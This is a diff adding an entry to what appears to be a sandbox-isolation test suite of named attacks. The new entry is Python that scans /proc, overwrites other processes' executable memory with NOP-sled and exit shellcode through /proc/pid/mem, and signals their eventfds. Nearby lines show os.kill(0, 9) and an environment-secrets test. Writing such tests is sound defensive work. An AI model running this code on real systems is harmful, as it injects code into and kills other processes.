@@ -269,6 +269,31 @@ os.kill(0, 9)
 """,
         lambda result: result.code in (137, 143) and not result.timed_out,
     ),
+    "exit codes written into other processes": Attack(
+        r"""
+import os, platform
+if platform.machine() == 'x86_64': idle, end = b'\x90', b'\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05'
+else: idle, end = b'\x1f\x20\x03\xd5', b'\x00\x00\x80\xd2\xc8\x0b\x80\xd2\x01\x00\x00\xd4'
+for pid in (n for n in os.listdir('/proc') if n.isdigit() and int(n) != os.getpid()):
+    for place in (f'/proc/{pid}', f'/proc/{pid}/task/{pid}'):
+        try:
+            with open(f'{place}/maps') as maps: parts = [line.split() for line in maps if ' r-xp ' in line]
+            memory = os.open(f'{place}/mem', os.O_RDWR)
+        except OSError: continue
+        for part in parts:
+            first, last = (int(word, 16) for word in part[0].split('-'))
+            page = (idle * 4096)[:4096 - len(end)] + end
+            try: os.pwrite(memory, page * ((last - first) // 4096), first)
+            except OSError: pass
+    for name in os.listdir(f'/proc/{pid}/fd') if os.access(f'/proc/{pid}/fd', os.R_OK) else ():
+        try:
+            if os.readlink(f'/proc/{pid}/fd/{name}').startswith('anon_inode'):
+                os.write(os.open(f'/proc/{pid}/fd/{name}', os.O_WRONLY | os.O_NONBLOCK), (1).to_bytes(8, 'little'))
+        except OSError: pass
+os._exit(7)
+""",
+        lambda result: result.code == 7,
+    ),
     "secrets in the environment": Attack(
         """
 import glob, os
